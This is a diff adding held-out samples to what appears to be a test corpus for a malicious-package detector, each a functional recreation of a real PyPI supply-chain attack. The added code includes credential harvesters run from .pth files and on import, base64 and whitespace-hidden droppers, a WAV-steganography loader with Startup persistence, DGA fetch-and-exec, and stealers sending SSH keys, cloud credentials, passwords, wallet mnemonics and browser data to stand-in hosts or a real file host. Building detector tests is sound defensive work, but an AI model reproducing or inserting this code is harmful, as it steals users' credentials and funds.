@@ -254,4 +254,167 @@ SAMPLES = [
         "    urllib.request.urlopen(req)\n_k()\n"},
      "Solana wallet keypairs posted to a free-hosting app on import", "Socket, solana wallet stealers (2024-2025)",
      ["credential-theft", "exfiltration", "import-time"]),
+    # --- second held-out batch (2026-11-30, recall helper): written before any detector change
+    # of that day and measured first; never tuned on.
+
+    # litellm 1.82.8 compromise (March 2026; write-ups by FutureSearch, Snyk and others): a
+    # `*_init.pth` file in the wheel starts a child interpreter on every Python start that
+    # decodes and runs a credential harvester (environment, SSH, cloud and Kubernetes files)
+    # and sends the bundle to a domain made to look like the project's own.
+    ("demo-llm-pth", "wheel", {
+        "demo_llm_pth_init.pth": "import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
+        "'import base64; exec(base64.b64decode(\"" + B64(
+            "import os, json, glob, urllib.request\n"
+            "d = {'env': dict(os.environ)}\n"
+            "for p in ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config', '~/.docker/config.json']:\n"
+            "    p = os.path.expanduser(p)\n"
+            "    if os.path.exists(p):\n        d[p] = open(p).read()\n"
+            "urllib.request.urlopen('https://models.demo-llm.example.net/v1/u', data=json.dumps(d).encode())\n")
+        + "\"))'])\n",
+        "demo_llm_pth/__init__.py": "__version__ = '1.82.8'\n"},
+     ".pth starts a child interpreter running a decoded credential harvester at every Python start",
+     "litellm 1.82.8 compromise (March 2026: FutureSearch, Snyk write-ups)",
+     ["install-anomaly", "decode-run", "credential-theft", "exfiltration"]),
+
+    # litellm 1.82.7 (same incident): the payload sat in the proxy module itself and ran when it
+    # was imported; here it is written to a temp file by a bootstrap function the module calls.
+    ("demo-llm-proxy", "wheel", {
+        "demo_llm_proxy/proxy_server.py": "import base64, os, subprocess, sys, tempfile\n"
+        "_P = '" + B64("import os, urllib.request\nurllib.request.urlopen('https://models.demo-llm.example.net/k', data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n") + "'\n"
+        "def _bootstrap():\n    path = os.path.join(tempfile.gettempdir(), '.p.py')\n"
+        "    with open(path, 'wb') as f:\n        f.write(base64.b64decode(_P))\n"
+        "    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        "_bootstrap()\n"
+        "def run_server(host='0.0.0.0', port=4000):\n    return (host, port)\n",
+        "demo_llm_proxy/__init__.py": "from .proxy_server import run_server\n"},
+     "decoded stealer written to the temp dir and run by a bootstrap function called on import",
+     "litellm 1.82.7 compromise (March 2026)",
+     ["decode-run", "download-run", "credential-theft", "exfiltration", "import-time"]),
+
+    # lightning 2.6.2/2.6.3 compromise (April 2026; Socket, Sonatype write-ups): a hidden `_runtime`
+    # package started from `__init__` spawns a background thread that fetches the Bun runtime and
+    # runs a large obfuscated JavaScript stealer shipped in the package.
+    ("demo-lightning-rt", "wheel", {
+        "demo_lightning_rt/__init__.py": "from ._runtime import start as _start\n_start()\n__version__ = '2.6.2'\n",
+        "demo_lightning_rt/_runtime/__init__.py": "import os, stat, threading, zipfile, urllib.request\n"
+        "_HERE = os.path.dirname(__file__)\n"
+        "def _run():\n    cache = os.path.expanduser('~/.cache/.rt')\n    os.makedirs(cache, exist_ok=True)\n"
+        "    z = os.path.join(cache, 'b.zip')\n"
+        "    urllib.request.urlretrieve('https://dl.example.net/bun-v1.3.13/bun-linux-x64.zip', z)\n"
+        "    zipfile.ZipFile(z).extractall(cache)\n    exe = os.path.join(cache, 'bun-linux-x64', 'bun')\n"
+        "    os.chmod(exe, os.stat(exe).st_mode | stat.S_IEXEC)\n"
+        "    os.spawnv(os.P_NOWAIT, exe, [exe, 'run', os.path.join(_HERE, 'router_runtime.js')])\n"
+        "def start():\n    threading.Thread(target=_run, daemon=True).start()\n",
+        "demo_lightning_rt/_runtime/router_runtime.js": "var _0x1a=['\\x63\\x68\\x69\\x6c\\x64'];(function(){eval(atob('" + B64("require('child_process').exec('env')") + "'))})();\n"},
+     "import starts a thread (through a function in another module) that downloads a runtime and runs a shipped obfuscated script",
+     "lightning 2.6.2 compromise (April 2026: Socket, Sonatype)",
+     ["download-run", "import-time", "decode-run"]),
+
+    # telnyx 4.87.1/4.87.2 compromise (March 2026; several write-ups): the client module fetches a
+    # WAV file whose audio frames are base64 of an XOR-encrypted payload, decodes it, and on
+    # Windows drops the result into the Startup folder; elsewhere it runs the decoded Python.
+    ("demo-telnyx-wav", "wheel", {
+        "demo_telnyx_wav/_client.py": "import base64, io, os, subprocess, sys, threading, urllib.request, wave\n"
+        "_K = b'k3y'\n"
+        "def _frames():\n    data = urllib.request.urlopen('http://198.51.100.44/ring.wav').read()\n"
+        "    w = wave.open(io.BytesIO(data))\n    return w.readframes(w.getnframes())\n"
+        "def _unpack():\n    raw = base64.b64decode(_frames())\n    return bytes(b ^ _K[i % len(_K)] for i, b in enumerate(raw))\n"
+        "def _setup():\n    payload = _unpack()\n    if sys.platform == 'win32':\n"
+        "        p = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'msbuild.exe')\n"
+        "        open(p, 'wb').write(payload)\n    else:\n"
+        "        subprocess.run([sys.executable, '-'], input=payload)\n"
+        "threading.Thread(target=_setup, daemon=True).start()\n"
+        "class Client:\n    def __init__(self, api_key=None):\n        self.api_key = api_key\n",
+        "demo_telnyx_wav/__init__.py": "from ._client import Client\n"},
+     "payload decoded from a downloaded WAV's frames, dropped into Startup or run, from a thread started on import",
+     "telnyx 4.87.1 compromise (March 2026: audio-steganography write-ups)",
+     ["steganography", "decode-run", "download-run", "import-time", "shady-links", "persistence"]),
+
+    # ssh-decorate (2018; BleepingComputer, NeuVector write-ups): a real SSH helper library whose
+    # new versions sent host, user name and password of every connection to a `.cf` domain.
+    ("demo-ssh-decorate", "wheel", {"demo_ssh_decorate/__init__.py":
+        "import requests, paramiko\n"
+        "class ssh_connect:\n    def __init__(self, user, password, server, port=22):\n"
+        "        self.client = paramiko.SSHClient()\n        self.client.connect(server, port, user, password)\n"
+        "        self.log(server, user, password)\n"
+        "    def log(self, server, user, password):\n"
+        "        try:\n            requests.post('http://demo-ssh-decorate.cf/index.php', data={'name': server, 'username': user, 'password': password})\n"
+        "        except Exception:\n            pass\n"},
+     "SSH helper that posts each connection's host, user and password to a throwaway-TLD site",
+     "ssh-decorate backdoor (2018: BleepingComputer, NeuVector)",
+     ["credential-theft", "exfiltration", "shady-links"]),
+
+    # SKCIRT advisory (2017): typosquats of standard-library and popular names (urlib3, ...) whose
+    # setup.py reported package name, user and host name to a raw IP on port 8080 at install.
+    ("urlib3", "sdist", {"setup.py":
+        "import getpass, socket, base64\nfrom setuptools import setup\n"
+        "try:\n    import urllib.request as u\nexcept ImportError:\n    import urllib2 as u\n"
+        "def _report():\n    data = 'Y:urlib3:%s:%s' % (getpass.getuser(), socket.gethostname())\n"
+        "    u.urlopen('http://198.51.100.90:8080/', data=base64.b64encode(data.encode()))\n"
+        "try:\n    _report()\nexcept Exception:\n    pass\n"
+        "setup(name='urlib3', version='1.22', packages=['urlib3'])\n",
+        "urlib3/__init__.py": "from urllib3 import *\n"},
+     "typosquat whose setup.py reports user and host to a raw IP at install", "SKCIRT advisory on PyPI typosquats (2017)",
+     ["beacon", "typosquat", "exfiltration"]),
+
+    # JFrog, chimera-sandbox-extensions (2025): on import, a domain-generation algorithm picks the
+    # command server, the package asks it for a token and then downloads and runs a Python stealer.
+    ("demo-dga-sandbox", "wheel", {"demo_dga_sandbox/__init__.py":
+        "import hashlib, datetime, requests\n"
+        "def _domains():\n    day = datetime.date.today().isoformat()\n"
+        "    for i in range(8):\n        h = hashlib.sha256(f'{day}-{i}'.encode()).hexdigest()[:12]\n"
+        "        yield h + '.example-dga.net'\n"
+        "def _stage():\n    for d in _domains():\n        try:\n"
+        "            tok = requests.get(f'https://{d}/auth', timeout=5).text\n"
+        "            exec(requests.get(f'https://{d}/s', headers={'Authorization': tok}, timeout=5).text, {})\n"
+        "            return\n        except Exception:\n            continue\n"
+        "_stage()\n"},
+     "DGA-chosen host serves a second stage that is fetched and run from a function called on import",
+     "JFrog, chimera-sandbox-extensions (2025)",
+     ["download-run", "import-time"]),
+
+    # Checkmarx, fake wallet "decoder" packages (atomicdecoderss and others, 2024): the library
+    # works, but the function a user calls with a mnemonic also sends it to the attacker.
+    ("demo-wallet-decoder", "wheel", {"demo_wallet_decoder/core.py":
+        "import json, urllib.request\n"
+        "def _sync(kind, secret):\n    req = urllib.request.Request('https://api.wallet-sync.example.net/v2/s', data=json.dumps({'k': kind, 's': secret}).encode(),\n"
+        "                                 headers={'Content-Type': 'application/json'})\n    urllib.request.urlopen(req, timeout=5)\n"
+        "def decode_mnemonic(mnemonic, passphrase=''):\n    _sync('mnemonic', mnemonic)\n    return mnemonic.split()\n"
+        "def decode_private_key(key):\n    _sync('pk', key)\n    return key.lower()\n",
+        "demo_wallet_decoder/__init__.py": "from .core import decode_mnemonic, decode_private_key\n"},
+     "wallet helper that sends the mnemonic or private key it is given to a remote API when called",
+     "Checkmarx, crypto-wallet decoder packages (2024)",
+     ["credential-theft", "exfiltration"]),
+
+    # Sonatype, pytoileur (2024): a setup.py with a statement pushed far to the right that
+    # decodes a base64 string; the decoded code downloads an executable and starts it hidden.
+    ("demo-toileur", "sdist", {"setup.py":
+        "from setuptools import setup\n"
+        + _hidden_line("import base64;exec(base64.b64decode('" + B64(
+            "import os, urllib.request, subprocess\n"
+            "p = os.path.join(os.getenv('TEMP', '/tmp'), 'Runtime.exe')\n"
+            "urllib.request.urlretrieve('https://cdn.example.net/Runtime.exe', p)\n"
+            "subprocess.Popen([p], creationflags=0x08000000)\n") + "'))")
+        + "setup(name='demo-toileur', version='1.0.2', packages=[])\n"},
+     "whitespace-hidden base64 payload in setup.py that downloads an .exe and starts it hidden",
+     "Sonatype, pytoileur (2024)",
+     ["hidden-code", "decode-run", "download-run", "shady-links"]),
+
+    # Checkmarx, CryptoAITools (2024): importing the package starts the stealer in the background
+    # (wallets, browser data, Telegram files) and uploads the archive to an anonymous file host.
+    ("demo-cryptoai", "wheel", {"demo_cryptoai/__init__.py":
+        "import os, glob, shutil, tempfile, threading, requests\n"
+        "def _collect():\n    out = tempfile.mkdtemp()\n"
+        "    for pat in ['~/.config/Exodus/exodus.wallet/*', '~/.electrum/wallets/*',\n"
+        "                '~/.config/google-chrome/Default/Login Data', '~/.local/share/TelegramDesktop/tdata/*']:\n"
+        "        for f in glob.glob(os.path.expanduser(pat)):\n            shutil.copy(f, out)\n"
+        "    return shutil.make_archive(out, 'zip', out)\n"
+        "def _send():\n    z = _collect()\n"
+        "    requests.post('https://store1.gofile.io/uploadFile', files={'file': open(z, 'rb')})\n"
+        "threading.Thread(target=_send, daemon=True).start()\n"
+        "from .bot import TradingBot\n",
+        "demo_cryptoai/bot.py": "class TradingBot:\n    def run(self):\n        return 'ok'\n"},
+     "wallet, browser and Telegram files zipped and uploaded to a file host from a thread started on import",
+     "Checkmarx, CryptoAITools (2024)",
+     ["credential-theft", "exfiltration", "import-time"]),
 ]
